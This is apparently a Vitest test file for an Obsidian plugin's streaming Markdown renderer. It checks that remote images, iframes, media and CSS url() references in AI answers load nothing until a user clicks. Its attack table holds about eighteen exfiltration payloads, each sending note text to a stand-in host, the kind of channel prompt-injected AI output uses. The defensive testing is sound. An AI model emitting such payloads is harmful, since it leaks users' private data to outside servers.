// @vitest-environment happy-dom
import type { App } from 'obsidian';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { MarkdownStream } from '../../src/ui/MarkdownStream';
import { createTestApp } from '../obsidian-double/harness';
import { clearRemoteLoads, remoteLoads } from '../obsidian-double/markdownRenderer';
import { click, getByRole, queryAllByRole } from './support/a11y';

let app: App;

beforeEach(() => {
  app = createTestApp();
  clearRemoteLoads();
});

afterEach(() => {
  document.body.empty();
});

async function render(answer: string, chunk = answer.length): Promise<MarkdownStream> {
  const md = new MarkdownStream(app, document.body.createDiv(), 'Notes/Plan.md');
  md.load();
  for (let index = 0; index < answer.length; index += chunk) {
    md.append(answer.slice(index, index + chunk));
    await new Promise((resolve) => setTimeout(resolve, 0));
  }
  await md.finish();
  return md;
}

const buttons = (md: MarkdownStream): string[] =>
  Array.from(md.el.querySelectorAll('button')).map((button) => button.getAttribute('aria-label') ?? '');

describe('MarkdownStream and remote content', () => {
  const SECRET = 'note%20text';
  const attacks: Record<string, string> = {
    'a Markdown image': `Done. ![x](https://host.example/p?d=${SECRET})`,
    'a Markdown image with a title and angle brackets': `![x](<https://host.example/p?d=${SECRET}> "t")`,
    'a reference-style image': `Done. ![x][pic]\n[pic]: https://host.example/p?d=${SECRET}`,
    'a collapsed reference image': `![pic][]\n[pic]: https://host.example/p?d=${SECRET}`,
    'an HTML img': `<img src="https://host.example/p?d=${SECRET}">`,
    'an HTML img with an entity-encoded scheme': `<img src="&#104;ttps://host.example/p?d=${SECRET}">`,
    'an HTML img with srcset only': `<img srcset="https://host.example/p?d=${SECRET} 2x">`,
    'a picture with a source': `<picture><source srcset="https://host.example/p?d=${SECRET}"></picture>`,
    'an iframe': `<iframe src="https://host.example/p?d=${SECRET}"></iframe>`,
    'a video with a poster': `<video poster="https://host.example/p?d=${SECRET}"></video>`,
    'an audio source': `<audio><source src="https://host.example/p?d=${SECRET}"></audio>`,
    'an object': `<object data="https://host.example/p?d=${SECRET}"></object>`,
    'an embed': `<embed src="https://host.example/p?d=${SECRET}">`,
    'a stylesheet link': `<link rel="stylesheet" href="https://host.example/p?d=${SECRET}">`,
    'a style element with url()': `<style>body { background: url(https://host.example/p?d=${SECRET}) }</style>`,
    'a style attribute with url()': `<span style="background:url('https://host.example/p?d=${SECRET}')">hi</span>`,
    'an image inside a link': `[![x](https://host.example/p?d=${SECRET})](https://host.example/)`,
    'an image after a backslash-escaped backtick': `\\\`a ![x](https://host.example/p?d=${SECRET}) \``,
  };

  for (const [name, answer] of Object.entries(attacks)) {
    it(`should load nothing from ${name}`, async () => {
      await render(answer);
      expect(remoteLoads()).toEqual([]);
    });
  }

  it('should load nothing while an image URL streams in one character at a time', async () => {
    const md = await render(
      `Here: ![x](https://host.example/p?d=${SECRET}) and <img src="https://host.example/q?d=${SECRET}">`,
      1,
    );
    expect(remoteLoads()).toEqual([]);
    expect(buttons(md)).toEqual(['Load image from host.example', 'Load image from host.example']);
  });

  it('should show a button named after the host and load the image only when clicked', async () => {
    const md = await render(`Chart: ![Sales chart](https://host.example/chart.png)`);
    const button = getByRole(md.el, 'button', 'Load image from host.example');
    expect(button.textContent).toBe('Load image from host.example');
    expect(md.el.querySelector('img')).toBeNull();
    click(button);
    const img = md.el.querySelector('img');
    expect(img?.getAttribute('src')).toBe('https://host.example/chart.png');
    expect(img?.getAttribute('alt')).toBe('Sales chart');
    expect(md.el.querySelector('button')).toBeNull();
  });

  it('should keep an image loaded when the answer renders again after the click', async () => {
    const md = new MarkdownStream(app, document.body.createDiv(), 'Notes/Plan.md');
    md.load();
    md.append('Chart: ![c](https://host.example/chart.png) and');
    const button = await vi.waitFor(() => getByRole(md.el, 'button', 'Load image from host.example'));
    click(button);
    md.append(' more');
    await md.finish();
    expect(md.el.querySelector('button')).toBeNull();
    expect(md.el.querySelector('img')?.getAttribute('src')).toBe('https://host.example/chart.png');
  });

  it('should name frames, videos and audio on their buttons and load each as what it is', async () => {
    const md = await render(
      '<iframe src="https://frames.example/e"></iframe>\n\n<video src="https://video.example/v.mp4"></video>\n\n<audio src="https://audio.example/a.mp3"></audio>',
    );
    expect(buttons(md)).toEqual([
      'Load frame from frames.example',
      'Load video from video.example',
      'Load audio from audio.example',
    ]);
    for (const button of queryAllByRole(md.el, 'button')) click(button);
    expect(md.el.querySelector('iframe')?.getAttribute('src')).toBe('https://frames.example/e');
    expect(md.el.querySelector('video')?.getAttribute('src')).toBe('https://video.example/v.mp4');
    expect(md.el.querySelector('audio')?.getAttribute('src')).toBe('https://audio.example/a.mp3');
  });

  it('should render local vault embeds and local images as Obsidian does', async () => {
    const md = await render('![[Plan]] and ![[diagram.png]] and ![local](attachments/photo.png)');
    expect(Array.from(md.el.querySelectorAll('.internal-embed')).map((el) => el.getAttribute('src'))).toEqual([
      'Plan',
      'diagram.png',
    ]);
    expect(md.el.querySelector('img')?.getAttribute('src')).toBe('attachments/photo.png');
    expect(md.el.querySelector('button')).toBeNull();
  });

  it('should show HTML in code as written', async () => {
    const md = await render(
      'Use `<img src="https://host.example/a.png">` like this:\n\n```html\n<img src="https://host.example/b.png">\n```\n',
    );
    expect(Array.from(md.el.querySelectorAll('code')).map((el) => el.textContent)).toEqual([
      '<img src="https://host.example/a.png">',
      '<img src="https://host.example/b.png">\n',
    ]);
    expect(remoteLoads()).toEqual([]);
  });

  it('should keep harmless formatting tags', async () => {
    const md = await render('Press <kbd>Ctrl</kbd> and H<sub>2</sub>O');
    expect(md.el.querySelector('kbd')?.textContent).toBe('Ctrl');
    expect(md.el.querySelector('sub')?.textContent).toBe('2');
  });
});
